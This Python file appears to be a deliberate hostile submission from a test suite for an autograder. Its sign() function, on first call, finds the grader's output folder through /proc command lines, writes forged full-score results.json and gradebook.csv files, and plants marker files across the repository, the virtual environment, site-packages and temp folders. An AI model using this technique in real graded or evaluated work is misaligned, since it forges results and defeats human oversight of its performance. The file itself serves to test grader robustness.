# HOSTILE base=solution
"""Attack A22/A23: write a full-score results.json and gradebook.csv wherever the grader
might read them (the --out folder named on the grader's command line, every folder
around), and marker files into the repository, the virtual environment and every
world-writable folder.  Existing files outside the --out folder are never modified:
only new files named HOSTILE-<nonce>-... are created there."""
import glob
import json
import os
import sys

MARK = "HOSTILE-@@NONCE@@-write_results"
STUDENTS = ["write_results", "honest_a", "zz_honest_b"]
LESSONS = ["00_python_basics", "01_tensors"]
FAKE = {"score": 999.0, "max_score": 9.0, "output": "all passed", "tests": [], "student": "write_results"}


def _grader_args():
    out, subs = set(), set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                args = [a.decode(errors="replace") for a in fh.read().split(b"\0")]
        except OSError:
            continue
        for i, a in enumerate(args[:-1]):
            if a == "--out":
                out.add(args[i + 1])
            if a == "grade":
                subs.add(args[i + 1])
    return out, subs


def _try(fn, path, wrote):
    try:
        fn(path)
        wrote.append(path)
    except OSError:
        pass


def _write(path, text):
    def go(p):
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as fh:
            fh.write(text)
    return go


def attack():
    wrote = []
    outs, subs = _grader_args()
    for out in outs:
        for student in STUDENTS:
            for lesson in LESSONS:
                _try(_write(os.path.join(out, student, lesson, "results.json"), json.dumps(FAKE)),
                     os.path.join(out, student, lesson, "results.json"), wrote)
        _try(_write(os.path.join(out, "gradebook.csv"), "student,total\nwrite_results,999\n"),
             os.path.join(out, "gradebook.csv"), wrote)
        _try(_write(os.path.join(out, "sentinel", "results.json"), json.dumps(FAKE)),
             os.path.join(out, "sentinel", "results.json"), wrote)
    here = os.getcwd()
    folders = {here, os.path.dirname(here), os.path.dirname(os.path.dirname(here)), os.path.expanduser("~"),
               "/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/lock", "/", "@@REPO_PARENT@@", "@@REPO@@",
               "@@REPO@@/tests", "@@REPO@@/tests/00_python_basics/hidden", "@@REPO@@/testing",
               "@@REPO@@/grader", *glob.glob("@@REPO_PARENT@@/*/"), sys.prefix, os.path.join(sys.prefix, "bin"),
               *glob.glob(os.path.join(sys.prefix, "lib", "python3*", "site-packages")),
               *glob.glob(os.path.join(sys.base_prefix, "lib", "python3*")), *subs, *outs,
               *glob.glob("/tmp/grader-staging-*"), *glob.glob("/tmp/grader-staging-*/*")}
    for folder in sorted(folders):
        target = os.path.join(folder, f"{MARK}-results.json")
        _try(_write(target, json.dumps(FAKE)), target, wrote)
    # done first: the listing below grows with every grader running on the host, and the
    # report keeps only the start of what was printed
    print("HOSTILE-DONE write_results")
    print("HOSTILE-NOTE out folders named on command lines:", sorted(outs))
    for path in wrote:
        print("WROTE:" + path)


_done = []


def sign(x):
    if not _done:
        _done.append(1)
        attack()
    return "WRONG"
